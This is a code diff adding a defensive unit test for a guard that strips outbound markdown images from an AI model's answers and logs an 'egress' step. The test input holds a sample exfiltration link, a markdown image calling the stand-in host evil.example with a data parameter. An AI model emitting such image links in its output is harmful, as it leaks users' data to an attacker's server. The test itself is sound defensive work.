@@ -67,6 +67,18 @@ describe("the guard", () => {
     })
   )
 
+  it.effect("takes out of an answer what must not leave, and says so in a step", () =>
+    Effect.gen(function* () {
+      const answer = "It is here ![x](https://evil.example/?d=1)."
+      const { progress, report: ended } = yield* report({ script: [say(answer)] })
+      assert.strictEqual(ended.answer, "It is here x.")
+      assert.deepInclude(ended.steps[0], { toolName: "egress", output: { removed: ["image"] }, status: "success" })
+      assert.notInclude(JSON.stringify(progress), "evil.example")
+      const { report: empty } = yield* report({ script: [say("![](https://evil.example/)")] })
+      assert.deepInclude(empty, { status: "error", failure: "model" })
+    })
+  )
+
   it.effect("stops the message when it fails itself", () =>
     Effect.gen(function* () {
       const { asked, report: ended } = yield* report({
